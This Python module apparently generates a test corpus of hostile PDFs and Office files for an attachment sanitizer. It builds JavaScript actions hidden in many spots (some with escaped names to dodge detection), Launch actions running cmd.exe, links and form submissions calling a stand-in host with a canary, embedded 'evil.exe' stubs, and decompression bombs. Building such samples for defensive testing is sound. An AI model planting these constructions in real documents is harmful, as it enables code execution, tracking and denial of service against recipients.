"""PDFs that want to do harm: scripts, programs, files inside, bombs."""

import zlib
from collections.abc import Callable, Iterator

import pikepdf

from tests.attachments.corpus.making import CANARY, office, pdf

OFFICE = ("docx", "xlsx", "pptx")
Made = Iterator[tuple[str, bytes] | tuple[str, bytes, bytes]]


def scripts() -> Made:
    def action() -> pikepdf.Dictionary:
        return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))

    def opening(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = action()

    def named(paper: pikepdf.Pdf) -> None:
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action()]))
        paper.Root.Names = pikepdf.Dictionary(JavaScript=tree)

    def page(paper: pikepdf.Pdf) -> None:
        paper.pages[0].AA = pikepdf.Dictionary(O=action())

    def annotation(paper: pikepdf.Pdf) -> None:
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action())]
        )

    def after(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=action())

    def stream(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=paper.make_stream(b"app.alert(1)")
        )

    def widget(paper: pikepdf.Pdf) -> None:
        field = pikepdf.Dictionary(
            FT=pikepdf.Name.Tx, T=pikepdf.String("t"), AA=pikepdf.Dictionary(K=action())
        )
        paper.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    def disguised(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS="app.alert(1)", K=1, P=1, Type=pikepdf.Name.StructElem
        )

    for change in (opening, named, page, annotation, after, stream, widget, disguised):
        yield f"{change.__name__}-#.pdf", pdf(change)
        yield f"{change.__name__}-#.pdf", pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "escaped-#.pdf", pdf(opening).replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4aS")


def launches() -> Made:
    for keys in (
        {"S": "/Launch", "F": "cmd.exe"},
        {"S": "/Launch", "Win": {"F": "cmd.exe"}},
        {"S": "/GoToR", "F": "\\\\203.0.113.7\\a.pdf"},
        {"S": "/SubmitForm", "F": "http://203.0.113.7/"},
        {"S": "/ImportData", "F": "a.fdf"},
    ):

        def action(keys: dict[str, object] = keys) -> pikepdf.Dictionary:
            rest = {name: value for name, value in keys.items() if name != "S"}
            return pikepdf.Dictionary(S=pikepdf.Name(str(keys["S"])), **rest)

        def change(paper: pikepdf.Pdf, action: Callable[[], pikepdf.Dictionary] = action) -> None:
            paper.Root.OpenAction = action()

        def pressed(paper: pikepdf.Pdf, action: Callable[[], pikepdf.Dictionary] = action) -> None:
            link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action())
            paper.pages[0].Annots = pikepdf.Array([link])

        yield "launch-#.pdf", pdf(change)
        yield "launch-#.pdf", pdf(pressed)

    def calls_home(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("http://203.0.113.7/" + CANARY.decode())
        )

    def opens_file(paper: pikepdf.Pdf) -> None:
        uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///" + CANARY.decode()))
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=uri)]
        )

    yield "home-#.pdf", pdf(calls_home), CANARY
    yield "file-#.pdf", pdf(opens_file), CANARY


def embedded_in_papers() -> Made:
    def attached(paper: pikepdf.Pdf) -> None:
        paper.attachments["evil.exe"] = b"MZ"

    def pinned(paper: pikepdf.Pdf) -> None:
        file = pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=paper.make_stream(b"MZ"))
        )
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=file)]
        )

    def portfolio(paper: pikepdf.Pdf) -> None:
        paper.Root.Collection = pikepdf.Dictionary(View=pikepdf.Name.D)

    def rich(paper: pikepdf.Pdf) -> None:
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia)]
        )

    def elsewhere(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        stream.F = pikepdf.String("\\\\203.0.113.7\\a")
        paper.pages[0].Contents = stream

    for change in (attached, pinned, portfolio, rich, elsewhere):
        yield f"{change.__name__}-#.pdf", pdf(change)


def forms() -> Made:
    def form(paper: pikepdf.Pdf) -> None:
        paper.Root.AcroForm = pikepdf.Dictionary(XFA=paper.make_stream(b"<xdp/>"), Fields=pikepdf.Array())

    yield "xfa-#.pdf", pdf(form)
    yield "xfa-#.pdf", pdf(form, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked() -> Made:
    yield "locked-#.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "owner-#.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    for kind in OFFICE:
        yield f"locked-#.{kind}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
        content = bytearray(office(kind))
        at = content.rindex(b"PK\x01\x02")
        content[at + 8] |= 1
        yield f"flag-#.{kind}", bytes(content)
    for name in ("old.doc", "old.xls", "old.ppt"):
        yield name, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def paper_bombs() -> Made:
    zeros = zlib.compress(bytes(220_000_000), 9)

    def flate(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        stream.write(zeros, filter=pikepdf.Name.FlateDecode)
        paper.pages[0].Contents = stream

    def twice(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        filters = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        stream.write(zlib.compress(zeros, 9), filter=filters, decode_parms=None)
        paper.pages[0].Contents = stream

    def thrice(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        filters = pikepdf.Array([pikepdf.Name.FlateDecode] * 3)
        stream.write(zlib.compress(zlib.compress(zeros, 9)), filter=filters, decode_parms=None)
        paper.pages[0].Contents = stream

    def deep(paper: pikepdf.Pdf) -> None:
        inner = pikepdf.Array()
        for _ in range(90):
            inner = pikepdf.Array([inner])
        paper.Root.Deep = inner

    def flood(paper: pikepdf.Pdf) -> None:
        image = paper.make_stream(b"\0")
        image.update(
            {"/Subtype": pikepdf.Name.Image, "/Width": 100_000, "/Height": 100_000, "/BitsPerComponent": 1}
        )
        paper.pages[0].Resources.XObject = pikepdf.Dictionary(Im=image)

    for change in (flate, twice, thrice, deep, flood):
        yield f"{change.__name__}-#.pdf", pdf(change, compress_streams=False)
